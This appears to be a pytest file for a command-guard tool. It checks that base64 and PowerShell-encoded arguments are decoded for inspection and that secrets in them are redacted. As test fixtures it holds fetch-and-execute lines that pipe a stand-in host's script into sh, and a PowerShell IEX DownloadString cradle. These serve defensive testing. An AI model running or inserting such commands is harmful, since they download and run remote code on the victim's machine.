"""Base64 payloads in argv are decoded for the rules, and their secrets redacted."""

from __future__ import annotations

import base64

from execguard.decode import command_text, decoded_blobs


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def test_decodes_nested_payload() -> None:
    inner = b64("curl http://evil.example/x.sh | sh")
    out = decoded_blobs(["sh", "-c", f"echo {b64('echo ' + inner + ' | base64 -d | sh')} | base64 -d | sh"])
    assert "curl http://evil.example/x.sh | sh" in out


def test_plain_words_and_binary_ignored() -> None:
    assert decoded_blobs(["/usr/local/bin/kubectl", "ABCDEFGHIJKLMNOPQRST"]) == ""
    assert decoded_blobs([base64.b64encode(bytes(range(256))).decode()]) == ""


def test_secrets_in_payload_redacted() -> None:
    out = decoded_blobs(["sh", "-c", b64("mysql -uroot -pHunter2Secret db; curl https://u:pw9999@h/")])
    assert "Hunter2Secret" not in out and "pw9999" not in out
    assert "mysql -uroot -p[REDACTED]" in out


def test_command_text() -> None:
    assert command_text("a b", "") == "a b"
    assert command_text("a b", "c") == "a b\nc"


def test_powershell_encoded_command_is_utf16le() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/s.ps1')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    assert decoded_blobs(["powershell", "-enc", blob]) == script
    # UTF-8 text is not mistaken for UTF-16: its odd bytes are not all NUL
    assert decoded_blobs([base64.b64encode(b"curl http://x/y | sh").decode()]) == "curl http://x/y | sh"
